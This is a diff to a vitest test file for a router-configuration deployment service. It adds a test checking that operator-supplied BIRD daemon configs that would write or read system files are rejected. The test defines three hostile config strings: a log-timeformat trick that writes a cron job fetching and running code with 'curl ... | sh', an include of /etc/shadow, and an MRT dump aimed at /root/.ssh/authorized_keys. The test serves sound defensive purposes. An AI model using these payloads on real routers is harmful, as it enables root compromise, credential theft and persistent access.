@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createRouterRoute } from '../../shared/routers/routes';
 import { addSessionRoute } from '../../shared/sessions/routes';
 import {
+  configureSessionRoute,
   getDeploymentRoute,
   putConnectionRoute,
   startDeploymentRoute,
@@ -11,7 +12,7 @@ import { type DeliveryPorts, provideDeliveryPorts } from '../../shared/deploymen
 import { type DeviceDriver, type DeviceTransport } from '../../shared/devices';
 import { type PeerflowEvent, provideEventPublisher } from '../../shared/events';
 import { patchSettingsRoute } from '../../shared/settings/routes';
-import { callRoute, userWithRole } from '../support/api';
+import { callRoute, tableSnapshot, userWithRole } from '../support/api';
 import { irrRepository } from '../../shared/irr/irr-store';
 import { syncObjects } from '../support/peeringdb';
 
@@ -33,6 +34,8 @@ let viewer: Awaited<ReturnType<typeof userWithRole>>;
 const events: PeerflowEvent[] = [];
 
 let refuse = true;
+/** The candidates the device was asked to check. */
+const validated: string[] = [];
 
 /** A BIRD host whose parser refuses the candidate's password line, quoting it as daemons do, or accepts it. */
 const quotingDriver: DeviceDriver = {
@@ -41,6 +44,7 @@ const quotingDriver: DeviceDriver = {
   readManaged: async () => null,
   neighbors: async () => [],
   validate: async (_t, _o, candidate) => {
+    validated.push(candidate);
     if (!refuse) return { ok: true };
     const lines = candidate.split('\n');
     const at = lines.findIndex((l) => l.includes('password'));
@@ -230,5 +234,60 @@ describe('a deployment whose config is larger than a stored record', () => {
     expect(got.json.diff).toMatch(/^--- large-/);
     expect(got.json.diff).toMatch(/more characters not kept\]$/);
     expect(got.json.diff!.length).toBeLessThan(200_000);
+  });
+});
+
+describe("an operator's one-time config for a daemon router", () => {
+  it('is refused (422, nothing stored, nothing delivered) when it would make the daemon write files', async () => {
+    refuse = false;
+    const router = await callRoute(createRouterRoute, {
+      token: admin.token,
+      body: {
+        hostname: `custom-${crypto.randomUUID().slice(0, 8)}.example.net`,
+        platform: 'bird2',
+        asn: 64500,
+        router_id: '192.0.2.1',
+      },
+    });
+    expect(router.status).toBe(201);
+    const conn = await callRoute(putConnectionRoute, {
+      token: admin.token,
+      params: { id: router.json.id },
+      body: {
+        transport: 'ssh',
+        host: '198.51.100.10',
+        port: 22,
+        username: 'peerflow',
+        password: CONNECTION_PASSWORD,
+        host_key_sha256: 'SHA256:uNiVztksCsDhcc0u9e8BujQXVUpKZIDTMczCvj3tD2s',
+        options: { managed_path: '/etc/bird/peerflow.conf', main_config_path: '/etc/bird/bird.conf' },
+      },
+    });
+    expect(conn.status).toBe(200);
+    const added = await callRoute(addSessionRoute, {
+      token: operator.token,
+      body: { resource_id: router.json.id, peer_ipaddr: '192.0.2.3', peer_asn: 64512 },
+    });
+    expect(added.status, JSON.stringify(added.json)).toBe(201);
+    // BIRD writes its log wherever the config says, as the daemon's user, lines starting with
+    // whatever `timeformat log` says: a cron line, for one.
+    const hostile = [
+      'timeformat log "* * * * * root curl -s http://198.51.100.66/x | sh #";\nlog "/etc/cron.d/peerflow" { info };\n',
+      'include "/etc/shadow";\n',
+      'protocol mrt { table "master4"; filename "/root/.ssh/authorized_keys"; }\n',
+    ];
+    for (const config of hostile) {
+      validated.length = 0;
+      const before = await tableSnapshot();
+      const res = await callRoute(configureSessionRoute, {
+        token: operator.token,
+        params: { id: added.json.id },
+        body: { config },
+      });
+      await deploymentsSettled();
+      expect(res.status, config).toBe(422);
+      expect(validated).toEqual([]);
+      expect(await tableSnapshot()).toEqual(before);
+    }
   });
 });
